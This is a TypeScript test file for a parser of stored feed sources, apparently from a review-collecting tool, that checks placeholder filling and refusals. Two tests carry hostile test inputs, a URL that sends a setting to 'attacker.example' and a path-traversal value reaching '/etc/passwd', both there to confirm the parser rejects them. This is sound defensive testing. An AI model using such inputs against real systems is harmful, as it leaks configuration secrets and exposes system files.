import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseStoredSource, placeholdersOf, rawSourcesOfYaml } from './stored-sources';

const env = { DEMO_PORT: '18090', REVIEWS_TOKEN: 'secret-token', ELASTICSEARCH_URL: 'http://127.0.0.1:19200' };
const limits = { importDirs: ['/srv/exports'], vars: new Set(['DEMO_PORT', 'REVIEWS_TOKEN']) };

describe('stored sources', () => {
  it('fills the placeholders lent to sources, from the collector\'s environment', () => {
    const r = parseStoredSource({ id: 'j', type: 'json', url: 'http://127.0.0.1:${DEMO_PORT}/r', headers: { Authorization: 'Bearer ${REVIEWS_TOKEN}' }, fields: { id: 'id', text: 'body' }, every: '1m' }, env, limits);
    expect(r).toMatchObject({ ok: true, source: { url: 'http://127.0.0.1:18090/r', headers: { Authorization: 'Bearer secret-token' }, every: 60_000 } });
  });

  it('refuses a placeholder not lent to sources: a form cannot send the collector\'s settings anywhere', () => {
    const r = parseStoredSource({ id: 'x', type: 'rss', url: 'https://attacker.example/?e=${ELASTICSEARCH_URL}' }, env, limits);
    expect(r).toEqual({ ok: false, error: expect.stringContaining('${ELASTICSEARCH_URL} is not lent to sources') });
  });

  it('reads a Google Play export only inside the allowed folders', () => {
    expect(parseStoredSource({ id: 'p', type: 'googleplay', file: '/srv/exports/reviews.csv' }, env, limits)).toMatchObject({ ok: true, source: { file: '/srv/exports/reviews.csv' } });
    expect(parseStoredSource({ id: 'p', type: 'googleplay', file: '/srv/exports/../../etc/passwd' }, env, limits)).toEqual({ ok: false, error: expect.stringContaining('outside the folders') });
  });

  it('keeps the sources file as written for seeding (placeholders and all), export paths made absolute', () => {
    const raw = rawSourcesOfYaml('sources:\n  - id: a\n    type: rss\n    url: http://127.0.0.1:${DEMO_PORT:-18090}/x\n  - id: p\n    type: googleplay\n    file: exports/r.csv\n', '/etc/vigil/sources.yaml');
    expect(raw).toEqual([{ id: 'a', type: 'rss', url: 'http://127.0.0.1:${DEMO_PORT:-18090}/x' }, { id: 'p', type: 'googleplay', file: path.resolve('/etc/vigil/exports/r.csv') }]);
    expect([...placeholdersOf(raw)]).toEqual(['DEMO_PORT']);
  });
});
